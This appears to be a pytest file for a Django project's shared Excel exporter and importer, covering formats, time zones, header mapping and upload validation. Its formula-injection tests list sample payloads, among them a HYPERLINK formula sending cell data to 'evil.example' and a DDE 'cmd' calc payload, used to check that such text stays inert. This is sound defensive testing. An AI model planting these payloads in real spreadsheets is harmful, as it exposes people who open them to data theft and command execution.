"""The shared Excel exporter: headers, formats, time zones, several sheets, text never a formula."""

import ast
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from opc_community.core.errors import DomainError
from opc_community.core.excel import (
    Column,
    Sheet,
    SheetColumn,
    cell_day,
    column_map,
    read_rows,
    row_error,
    workbook_bytes,
    xlsx_response,
)

ROWS = [{"name": "张三", "amount": Decimal("1000.50"), "on": date(2026, 10, 8),
         "at": datetime(2026, 10, 8, 1, 30, tzinfo=UTC)}]
COLUMNS = [
    Column("名称", lambda r: r["name"]),
    Column("金额", lambda r: r["amount"], "money"),
    Column("日期", lambda r: r["on"], "date"),
    Column("时间", lambda r: r["at"], "datetime"),
]


def test_a_workbook_with_typed_columns_and_two_sheets():
    response = xlsx_response("report", Sheet("明细", COLUMNS, ROWS), Sheet("汇总", COLUMNS[:1], [{"name": "合计"}]))
    assert response["Content-Disposition"] == 'attachment; filename="report.xlsx"'
    book = load_workbook(BytesIO(response.content))
    assert book.sheetnames == ["明细", "汇总"]
    sheet = book["明细"]
    assert [c.value for c in sheet[1]] == ["名称", "金额", "日期", "时间"]
    name, amount, on, at = sheet[2]
    assert (name.value, amount.value) == ("张三", 1000.5)
    assert amount.number_format == '"¥"#,##0.00'
    assert on.value.date() == date(2026, 10, 8) and on.number_format == "yyyy-mm-dd"
    assert at.value == datetime(2026, 10, 8, 9, 30)  # Asia/Shanghai wall time
    assert sheet.freeze_panes == "A2"


# --- Formula injection (OWASP "CSV Injection"): text is never a live formula --------------------------------

#: One value for each leading character that makes a spreadsheet read text as a formula.
DANGEROUS = {
    "equals": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


def _read_back(*values) -> list:
    sheet = load_workbook(BytesIO(workbook_bytes(Sheet("表", [Column("值", lambda v: v)], values)))).active
    return [row[0] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_text_starting_like_a_formula_is_written_as_text(text):
    (cell,) = _read_back(text)
    assert cell.data_type == "s"  # a string cell, not "f" (formula)
    assert cell.value == text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert cell.quotePrefix  # Excel keeps it text when someone edits the cell


def test_numbers_stay_numbers_and_other_text_is_plain():
    negative, integer, plain, error_code, control = _read_back(Decimal("-1200.50"), -3, "张三", "#N/A", "a\x00b")
    assert (negative.data_type, negative.value) == ("n", -1200.5)  # a negative amount is a number
    assert integer.data_type == "n" and integer.value == -3
    assert (plain.data_type, plain.value, plain.quotePrefix) == ("s", "张三", False)
    assert error_code.data_type == "s"  # not an Excel error value
    assert control.value == "ab"  # characters Excel refuses are dropped, not a 500


def test_only_the_shared_helper_writes_and_reads_workbooks():
    """Every export goes through :func:`workbook_bytes` and every import through :func:`read_rows`:
    openpyxl is imported nowhere else."""
    root = Path(__file__).resolve().parents[2]
    readers: dict[str, set[str]] = {}
    tops = [top for top in root.iterdir() if not top.name.startswith(".") and top.name != "tests"]
    offenders = []
    for path in (found for top in tops for found in ([top] if top.is_file() else top.rglob("*.py"))):
        relative = path.relative_to(root).as_posix()
        if path.suffix != ".py" or relative == "opc_community/core/excel.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import) and any(a.name.split(".")[0] == "openpyxl" for a in node.names):
                offenders.append(relative)
            if (isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "openpyxl"
                    and {a.name for a in node.names} - readers.get(relative, set())):
                offenders.append(relative)
    assert offenders == []


# --- Reading uploaded sheets ------------------------------------------------------------------------------

COLUMNS_READ = (
    SheetColumn("number", gettext_lazy("voucher number"), ("券号",)),
    SheetColumn("amount", "用量", ("amount",)),
)


def upload(*rows, name="sheet.xlsx") -> SimpleUploadedFile:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    stream = BytesIO()
    book.save(stream)
    return SimpleUploadedFile(name, stream.getvalue())


def test_rows_are_read_as_dicts_with_the_sheets_row_numbers_and_empty_rows_skipped():
    rows = read_rows(upload(["券号", "用量"], ["  QJ-1 ", 30], [None, ""], ["QJ-2", 5.5]), COLUMNS_READ, field="f")
    assert rows == [(2, {"number": "QJ-1", "amount": 30}), (4, {"number": "QJ-2", "amount": 5.5})]


@pytest.mark.parametrize(("header", "expected"), [
    (["用量", "备注", "券号"], {"number": 2, "amount": 0}),  # every column named: by header, any order
    ([" Amount ", "VOUCHER NUMBER"], {"number": 1, "amount": 0}),  # either language, case and spaces ignored
    (["amount", "amount", "券号"], {"number": 2, "amount": 0}),  # the first of a repeated header
    (["编号", "数量"], {"number": 0, "amount": 1}),  # not named: by position (the template's layout)
    (["用量"], {"number": 0, "amount": 1}),  # one column missing: by position
    ([], {"number": 0, "amount": 1}),
])
def test_the_header_row_places_the_columns(header, expected):
    assert column_map(header, COLUMNS_READ) == expected


def test_a_row_shorter_than_the_columns_reads_as_empty_cells():
    assert read_rows(upload(["券号", "用量"], ["QJ-1"]), COLUMNS_READ, field="f") == [(2, {"number": "QJ-1",
                                                                                            "amount": None})]


@pytest.mark.parametrize("content", [b"%PDF-1.4 not a workbook", b"", b"PK\x03\x04broken zip"])
def test_a_file_that_is_not_a_workbook_is_refused_naming_the_field(content):
    with pytest.raises(DomainError) as refused:
        read_rows(SimpleUploadedFile("x.xlsx", content), COLUMNS_READ, field="statement")
    assert (refused.value.field, refused.value.message) == ("statement", "该文件不是 Excel 工作簿（.xlsx）。")


def test_a_sheet_longer_than_the_limit_is_refused():
    sheet = upload(["券号", "用量"], *[[f"QJ-{n}", 1] for n in range(4)])
    assert len(read_rows(sheet, COLUMNS_READ, field="f", max_rows=4)) == 4
    with pytest.raises(DomainError) as refused:
        read_rows(sheet, COLUMNS_READ, field="f", max_rows=3)
    assert refused.value.field == "f" and "3 行" in refused.value.message


def test_a_row_error_names_the_row_and_the_column_in_chinese():
    assert row_error(3, "没有这张券") == "第 3 行：没有这张券"
    assert row_error(4, "超出余额", COLUMNS_READ[1]) == "第 4 行“用量”列：超出余额"
    assert row_error(5, "x", COLUMNS_READ[0]) == "第 5 行“券号”列：x"


@pytest.mark.parametrize(("value", "expected"), [
    (None, None), ("", None), (date(2026, 10, 12), date(2026, 10, 12)),
    (datetime(2026, 10, 12, 23, 59), date(2026, 10, 12)), (" 2026-10-12 ", date(2026, 10, 12)),
])
def test_a_date_cell(value, expected):
    assert cell_day(value) == expected


@pytest.mark.parametrize("value", ["12/10/2026", "2026-13-01", "下周一", 3.5])
def test_a_cell_that_is_not_a_date_is_refused_in_chinese(value):
    with pytest.raises(DomainError, match="无法识别"):
        cell_day(value)
